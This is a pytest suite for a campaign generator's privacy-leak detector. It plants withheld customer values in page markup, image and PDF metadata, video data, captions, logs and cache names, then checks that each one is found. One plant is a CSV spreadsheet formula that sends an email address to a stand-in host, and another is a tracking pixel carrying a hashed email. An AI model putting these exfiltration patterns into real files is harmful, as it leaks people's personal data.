"""Both examples, rendered and searched: nothing is found; and every kind of leak, planted, is.

The kinds are those that filters usually leak by: names, logs, cache keys, pictures, comments, payloads, links, PDFs,
films, tables, defaults, receipts. Each is planted with a value of the recipient's own that the policy holds back.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import json
import random
import re
import shutil
import string
import struct
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, replace
from itertools import islice
from pathlib import Path
from typing import Any
from urllib.parse import quote

import av
import pytest
from PIL import Image
from pypdf import PdfReader, PdfWriter
from rendered_output import SMALL_FILM, Output, copy_of, render, run

from generator.campaign import Campaign, load_campaign
from generator.model.facts import Choice
from generator.model.layers.base import Box
from generator.model.layers.codes import QrLayer
from generator.pipeline.looking import FILM_WORDS, Looker
from generator.pipeline.preparation import Preparation, Prepared
from generator.pipeline.proof import prove
from generator.publish.tokens import token_of


@dataclass(frozen=True)
class Made:
    """A rendered example, and one of its recipients. `denied`: some of the values that the policy holds back."""

    campaign: Campaign
    output: Output
    looker: Looker
    prepared: Prepared
    folder: Path
    denied: Mapping[str, str]

    def found(self, folder: Path, prepared: Prepared | None = None) -> set[tuple[str, str]]:
        """(field, file) of every leak in a copy of the recipient's folder."""
        return {(leak.field, leak.file) for leak in self.looker.leaks(prepared or self.prepared, folder)}


@pytest.fixture(scope="module", params=["energy", "chinook"])
def made(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory, checkout: Path, chinook_db: Path
) -> Iterator[Made]:
    folder = copy_of(request.param, checkout, chinook_db, tmp_path_factory.mktemp("leaks") / request.param)
    output = render(folder, folder.parent / "out", "--limit", "2", "--workers", "0")
    assert output.process.returncode == 0, output.process.stderr
    campaign = load_campaign(folder)
    with Preparation(campaign) as preparation:
        record: Any = next(iter(preparation.rows()))
        token = token_of(campaign.secret, campaign.name, record.customer_id)
        prepared = preparation.prepare(record, token)
        assert isinstance(prepared, Prepared)
        denied = {name: str(record.values[name]) for name in ("email", "street", "phone", "city", "postcode")}
        looker = Looker(campaign, preparation.shape)
        yield Made(campaign, output, looker, prepared, output.root / "site" / token, denied)


@pytest.fixture
def folder(made: Made, tmp_path: Path) -> Path:
    """A copy of the recipient's folder to plant in."""
    return Path(shutil.copytree(made.folder, tmp_path / "folder"))


def test_the_whole_output_is_clean(made: Made) -> None:
    done = run("verify", made.output.root, "--json")
    told = json.loads(done.stdout)
    assert (done.returncode, told["leaks"], told["faults"]) == (0, [], []), done.stdout
    assert told["recipients"] == 2
    receipts = [json.loads(path.read_bytes()) for path in (made.output.root / "private" / "receipts").iterdir()]
    assert [receipt["verified"] for receipt in receipts] == [True] * 2


# Surnames, towns and states that pages, styles, films, PDFs and programs have for words.
COMMON = """
Page Class Button Section Main Header Footer Script Style Title April August Mai Juni June March Marz Bill Price
Order Grid Meter Energy Light Rose Grant Mark Frank Victor Carol Penny Dale Glenn Ford Hand Path Line Rect Circle
Text Font Root Info Type Width Height Length Producer Author Creator Subject Print Identity Encoding Stream Filter
Catalog Pages Kids Count Parent Resources Contents Color Space Device Image Mask Group Form Link Border Essen Bergen
Hamm Halle Singen Hagen Plus Minus Gross Klein Lang Kurz Weiss Schwarz Braun Gruen Engel Kaiser Koenig Richter Vogel
Wolf Stein Berg Wald Bach Winter Sommer Herbst Fruehling Montag Sonntag Freitag Janvier Mars Avril Luna Sol Rio Mar
Campo Casa Porta Ponte Torre Villa Stella Bianco Rossi Verdi Conti Costa Serra Leone Gatti Luce Fiore Prima Seconda
Terza None Null True False Single Married Female Male Gold Silver Bronze Basic Premium Standard Active Lead Customer
Prospect Open Close Start Stop Play Pause Next Back More Less Show Hide Read Write Send Save Load Copy Find Search
Sort Table Cell Data Value Name Label Note Item List Card Icon Logo Brand Film Video Audio Sound Music Chapter
Caption Poster Preview Scene Offer Closing Greeting Amount Balance History Breakdown Usage Heat Pump Solar Roof Wind
Water Fire Earth Green Blue Brown Black White Young Long Short Small Large High Lower Upper Left Right Center Middle
Justify Auto Hidden Visible Inline Block Flex Static Fixed Absolute Relative Solid Dotted Dashed Round Square Linear
Radial Ease Smooth Normal Bold Italic Serif Inter Noto Arial Times Courier
"""


def test_common_words_and_chance_are_no_leaks(made: Made) -> None:
    """A person of three hundred unlucky names, and of as many numbers, days and short codes, in a clean folder."""
    source = random.Random(4)
    values: list[Any] = COMMON.split()
    values += [f"{source.choice(values)} {source.choice(values)}" for _ in range(100)]
    values += [str(source.randrange(10**4, 10**6)) for _ in range(200)]
    values += [f"{source.randrange(2003, 2020)}-{source.randrange(1, 13):02}-20" for _ in range(60)]
    values += ["".join(source.choice(string.ascii_lowercase) for _ in range(4)) for _ in range(300)]
    denied = [((f"field_{number}",), "", value) for number, value in enumerate(values)]
    # What the page says of this recipient is told, whatever it is.
    unlucky = replace(made.prepared, withheld=replace(made.prepared.withheld, denied=denied))
    assert made.found(made.folder, unlucky) == set()


def in_page(text: str) -> Callable[[Path, str], None]:
    """{} in the text is the value; planted before the end of the page's body."""

    def plant(folder: Path, value: str) -> None:
        path = folder / "index.html"
        page = path.read_text(encoding="utf-8")
        assert "</body>" in page
        path.write_text(page.replace("</body>", text.replace("{}", value) + "</body>"), encoding="utf-8")

    return plant


def in_head(text: str) -> Callable[[Path, str], None]:
    def plant(folder: Path, value: str) -> None:
        path = folder / "index.html"
        path.write_text(path.read_text(encoding="utf-8").replace("</head>", text.replace("{}", value) + "</head>"))

    return plant


def with_value(make: Callable[[str], str], plant: Callable[[Path, str], None]) -> Callable[[Path, str], None]:
    return lambda folder, value: plant(folder, make(value))


def file_name(folder: Path, value: str) -> None:
    (folder / f"invoice {value.replace('/', ' ')}.txt").write_text("see there", encoding="utf-8")


def folder_name(folder: Path, value: str) -> None:
    (folder / re.sub(r"\W+", "_", value)).mkdir()
    (folder / re.sub(r"\W+", "_", value) / "a.txt").write_text("see there", encoding="utf-8")


def left_over(folder: Path, value: str) -> None:
    (folder / ".index.html.part").write_text(f"<p>{value}", encoding="utf-8")


def exif(folder: Path, value: str) -> None:
    with Image.open(folder / "poster.jpg") as image:
        data = Image.Exif()
        data[0x010E] = value
        image.save(folder / "poster.jpg", exif=data)


def xmp(folder: Path, value: str) -> None:
    raw = (folder / "poster.jpg").read_bytes()
    packet = b"http://ns.adobe.com/xap/1.0/\0" + f"<x:xmpmeta><dc:title>{value}</dc:title></x:xmpmeta>".encode()
    (folder / "poster.jpg").write_bytes(raw[:2] + b"\xff\xe1" + struct.pack(">H", len(packet) + 2) + packet + raw[2:])


def jpeg_comment(folder: Path, value: str) -> None:
    raw, text = (folder / "poster.jpg").read_bytes(), value.encode()
    (folder / "poster.jpg").write_bytes(raw[:2] + b"\xff\xfe" + struct.pack(">H", len(text) + 2) + text + raw[2:])


def gif_comment(folder: Path, value: str) -> None:
    raw, text = (folder / "preview.gif").read_bytes(), value.encode()
    assert raw.endswith(b";")
    (folder / "preview.gif").write_bytes(raw[:-1] + b"\x21\xfe" + bytes([len(text)]) + text + b"\0;")


def rewritten(folder: Path, change: Callable[[PdfWriter], object]) -> None:
    writer = PdfWriter(clone_from=PdfReader(folder / "invoice.pdf"))
    change(writer)
    writer.write(folder / "invoice.pdf")


def pdf_author(folder: Path, value: str) -> None:
    rewritten(folder, lambda writer: writer.add_metadata({"/Author": value}))


def pdf_xmp(folder: Path, value: str) -> None:
    def change(writer: PdfWriter) -> None:
        writer.xmp_metadata = f'<x:xmpmeta xmlns:x="adobe:ns:meta/"><creator>{value}</creator></x:xmpmeta>'.encode()

    rewritten(folder, change)


def pdf_attachment(folder: Path, value: str) -> None:
    rewritten(folder, lambda writer: writer.add_attachment("data.xml", f"<who>{value}</who>".encode()))


def pdf_older_revision(folder: Path, value: str) -> None:
    """What the last save replaced is still in the file."""
    path = folder / "invoice.pdf"
    body, mark, tail = path.read_bytes().rpartition(b"startxref")
    path.write_bytes(body + f"99 0 obj\n<< /Old ({value}) >>\nendobj\n".encode() + mark + tail)


def film_tag(folder: Path, value: str) -> None:
    source, target = folder / "video.mp4", folder / "again.mp4"
    with av.open(str(source)) as old, av.open(str(target), "w") as new:
        new.metadata["comment"] = value
        streams = {stream.index: new.add_stream_from_template(stream) for stream in old.streams.video}
        for packet in old.demux(*old.streams.video):
            if packet.dts is not None:
                packet.stream = streams[packet.stream.index]
                new.mux(packet)
    target.replace(source)


def among_the_frames(folder: Path, value: str) -> None:
    """As SEI would carry it: in the frames' data, as it is."""
    raw = bytearray((folder / "video.mp4").read_bytes())
    at = len(raw) * 2 // 3
    raw[at : at + len(value.encode())] = value.encode()
    (folder / "video.mp4").write_bytes(raw)


def text_track(folder: Path, value: str) -> None:
    """A cue of the film's own text track, its length kept."""
    raw = (folder / "video.mp4").read_bytes()
    said = (folder / "captions.vtt").read_text(encoding="utf-8").split("\n\n")
    cue = max((line for block in said for line in block.split("\n")[1:] if "-->" not in line), key=len)
    assert cue.encode() in raw
    (folder / "video.mp4").write_bytes(
        raw.replace(cue.encode(), value.encode().ljust(len(cue.encode()))[: len(cue.encode())])
    )


def captions(folder: Path, value: str) -> None:
    with (folder / "captions.vtt").open("a", encoding="utf-8") as stream:
        stream.write(f"\n00:01.000 --> 00:02.000\nHello {value}\n")


def chapters(folder: Path, value: str) -> None:
    with (folder / "chapters.vtt").open("a", encoding="utf-8") as stream:
        stream.write(f"\n00:01.000 --> 00:02.000\n{value}\n")


def formula(folder: Path, value: str) -> None:
    """A cell that a spreadsheet runs, with the value in what it sends."""
    with (folder / "lines.csv").open("a", encoding="utf-8", newline="") as stream:
        csv.writer(stream).writerow([f'=HYPERLINK("https://x.example/?c={quote(value)}","open")'])


def calendar(folder: Path, value: str) -> None:
    text = f"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Bill of {value[:9]}\r\n {value[9:]}\r\nEND:VEVENT\r\n"
    (folder / "reminder.ics").write_text(text + "END:VCALENDAR\r\n", encoding="utf-8")


def payload(value: str) -> str:
    return json.dumps({"user": value}, ensure_ascii=True)


def as_base64(value: str) -> str:
    return base64.urlsafe_b64encode(f'{{"m":"{value}"}}'.encode()).decode().rstrip("=")


def twice_escaped(value: str) -> str:
    return quote(quote(value, safe=""))


def with_tags_inside(value: str) -> str:
    return f"{value[:3]}<b>{value[3:5]}</b>{value[5:]}"


def hashed(value: str) -> str:
    return hashlib.md5(value.lower().encode(), usedforsecurity=False).hexdigest()


PLANTS: dict[str, tuple[str, Callable[[Path, str], None], str]] = {
    "file name": ("street", file_name, "….txt"),
    "folder name": ("email", folder_name, "…/a.txt"),
    "temporary file": ("email", left_over, ".index.html.part"),
    "HTML comment": ("street", in_page("<!-- {} -->"), "index.html"),
    "alternative text": ("street", in_page('<img src="poster.jpg" alt="{}">'), "index.html"),
    "aria label": ("street", in_page('<nav aria-label="{}"></nav>'), "index.html"),
    "data attribute": ("phone", in_page('<p data-tel="{}"></p>'), "index.html"),
    "hidden alternative": ("street", in_page("<template hidden><p>{}</p></template>"), "index.html"),
    "JSON payload": (
        "email", with_value(payload, in_page('<script type="application/json">{}</script>')), "index.html"
    ),
    "query of a button": ("email", with_value(as_base64, in_page('<a href="/pay?s={}">Pay</a>')), "index.html"),
    "escaped query": ("email", with_value(twice_escaped, in_page('<a href="/pay?s={}">')), "index.html"),
    "analytics id": ("email", with_value(hashed, in_page('<img src="/pixel?uid={}" alt="">')), "index.html"),
    "Open Graph": ("street", in_head('<meta property="og:description" content="For {}">'), "index.html"),
    "split by tags": ("street", with_value(with_tags_inside, in_page("<p>{}</p>")), "index.html"),
    "EXIF": ("email", exif, "poster.jpg"),
    "XMP": ("street", xmp, "poster.jpg"),
    "picture's comment": ("email", jpeg_comment, "poster.jpg"),
    "preview's comment": ("email", gif_comment, "preview.gif"),
    "PDF author": ("email", pdf_author, "invoice.pdf"),
    "PDF XMP": ("email", pdf_xmp, "invoice.pdf"),
    "PDF attachment": ("street", pdf_attachment, "invoice.pdf"),
    "PDF revision": ("email", pdf_older_revision, "invoice.pdf"),
    "film's tags": ("email", film_tag, "video.mp4"),
    "SEI": ("email", among_the_frames, "video.mp4"),
    "film's text track": ("email", text_track, "video.mp4"),
    "captions": ("street", captions, "captions.vtt"),
    "chapters": ("street", chapters, "chapters.vtt"),
    "formula in a cell": ("email", formula, "lines.csv"),
    "calendar": ("street", calendar, "reminder.ics"),
}  # fmt: skip


@pytest.mark.parametrize("kind", PLANTS)
def test_a_planted_leak_is_found(made: Made, folder: Path, kind: str) -> None:
    field, plant, file = PLANTS[kind]
    plant(folder, made.denied[field])
    found = made.found(folder)
    assert {(name, path.rpartition("/")[2] if "…" not in file else path) for name, path in found} == {(field, file)}, (
        found
    )


def with_layer(prepared: Prepared, layer: Any) -> Prepared:
    first, *others = prepared.story.scenes
    layers = {aspect: (*those, layer) for aspect, those in first.layers.items()}
    return replace(prepared, story=replace(prepared.story, scenes=(replace(first, layers=layers), *others)))


def test_a_code_with_a_value_in_it_is_found(made: Made, folder: Path) -> None:
    content = f"https://pay.example/?who={quote(made.denied['email'])}"
    code = QrLayer(id="code", box=Box(0, 0, 0.1, 0.1), modules=("10", "01"), content=content, personal=True)
    assert made.found(folder, with_layer(made.prepared, code)) == {("email", FILM_WORDS)}


def test_what_a_film_says_and_offers_is_found(made: Made, folder: Path) -> None:
    first, *others = made.prepared.story.scenes
    said = replace(first, caption=f"Hello, {made.denied['street']}")
    offered = replace(first, choices=(Choice("a", f"For {made.denied['street']}"),))
    for scene in (said, offered):
        story = replace(made.prepared.story, scenes=(scene, *others))
        assert made.found(folder, replace(made.prepared, story=story)) == {("street", FILM_WORDS)}


def test_a_receipt_with_a_value_in_it_is_found(made: Made, folder: Path) -> None:
    receipt = {**made.prepared.receipt, "note": f"dropped {made.denied['email']}"}
    assert made.found(folder, replace(made.prepared, receipt=receipt)) == {("email", "receipt")}


def test_what_belongs_to_nobody_holds_nobodys_values(made: Made, tmp_path: Path) -> None:
    """Logs, tracebacks, errors' texts, names in the cache, shared styles, what a crash left: planted at once."""
    root = Path(shutil.copytree(made.output.root, tmp_path / "out" / made.output.root.name))
    email, street = made.denied["email"], made.denied["street"]
    (root / "private" / "run.log").write_text(
        f"Traceback (most recent call last):\n  File \"x.py\", line 1\nKeyError: '{email}'\n", encoding="utf-8"
    )
    with (root / "private" / "manifest.jsonl").open("a", encoding="utf-8") as stream:
        stream.write(json.dumps({"row": 9, "status": "failed", "reason": f"'{street}' is no number."}) + "\n")
    key = hashlib.sha256(email.lower().encode()).hexdigest()
    (root / "private" / "cache" / "repeated" / key).write_bytes(b"")
    (root / "site" / "shared" / "more.css").write_text(f"p::after {{ content: '{street}' }}", encoding="utf-8")
    (root / "private" / "staging" / "half.html").write_text(f"<p>{street}", encoding="utf-8")
    proof = prove(root, made.campaign)
    assert not proof.clean
    assert {(leak.field, leak.file) for leak in proof.leaks} == {
        ("email", "private/run.log"),
        ("street", "private/manifest.jsonl"),
        ("email", "private/cache/repeated/…"),
        ("street", "site/shared/more.css"),
        ("street", "private/staging/half.html"),
    }
    assert email not in repr(proof)


def test_a_template_with_somebodys_address_as_default_is_found(
    tmp_path: Path, checkout: Path, chinook_db: Path, made: Made
) -> None:
    """Where a fact is missing, a template of the campaign's own says somebody's address. Rendered by the real thing."""
    root = copy_of(made.campaign.root.name, checkout, chinook_db, tmp_path / "own")
    shutil.copytree(checkout / "templates" / "microsites" / "bill", root / "microsites" / "mine")
    page = root / "microsites" / "mine" / "page.html.j2"
    shutil.copy(checkout / "templates" / "microsites" / "layouts" / "page" / page.name, page)
    default = f"{{{{ facts.nickname | default('{made.denied['email']}') }}}}"
    text = page.read_text(encoding="utf-8")
    assert "{% block" in text or "<main" in text
    page.write_text(text.replace("<h1", f"<p>{default}</p><h1", 1), encoding="utf-8")
    campaign = root / "campaign.yaml"
    text = campaign.read_text(encoding="utf-8").replace(SMALL_FILM, "video: false")
    text = text.replace("microsite: {template: bill}", "microsite: {template: mine}")
    campaign.write_text(text, encoding="utf-8")
    output = render(root, tmp_path / "out", "--limit", "2", "--workers", "0", "--no-verify")
    assert output.process.returncode == 0, output.process.stderr
    assert made.denied["email"] in (next((output.root / "site").glob("*/index.html"))).read_text(encoding="utf-8")
    found = {leak.field for leak in prove(output.root, load_campaign(root)).leaks}
    assert found == {"email"}
    again = render(root, tmp_path / "out", "--limit", "2", "--workers", "0")
    statuses = [line["status"] for line in again.manifest]
    assert (again.process.returncode, statuses) == (1, ["failed", "rendered"])
    assert "'email' in index.html" in again.manifest[0]["reason"]


def test_two_campaigns_share_no_name_of_anybody(made: Made) -> None:
    """The same people under the same key: tokens, pseudonyms and what is signed have nothing in common."""

    def names(campaign: Campaign) -> set[str]:
        found: set[str] = set()
        with Preparation(campaign) as preparation:
            for record in islice(preparation.rows(), 5):
                token = token_of(campaign.secret, campaign.name, record.customer_id)
                prepared = preparation.prepare(record, token)
                if isinstance(prepared, Prepared):
                    found |= {token, prepared.story.pseudonym, str(prepared.story.seed), str(prepared.receipt["mac"])}
        return found

    spec = made.campaign.spec.model_copy(update={"name": "another-campaign"})
    other = replace(made.campaign, spec=spec)
    one = names(made.campaign)
    assert len(one) >= 8
    assert one.isdisjoint(names(other))
    # The twin: were the name not counted in, they would be joined.
    assert names(replace(other, spec=made.campaign.spec)) == one
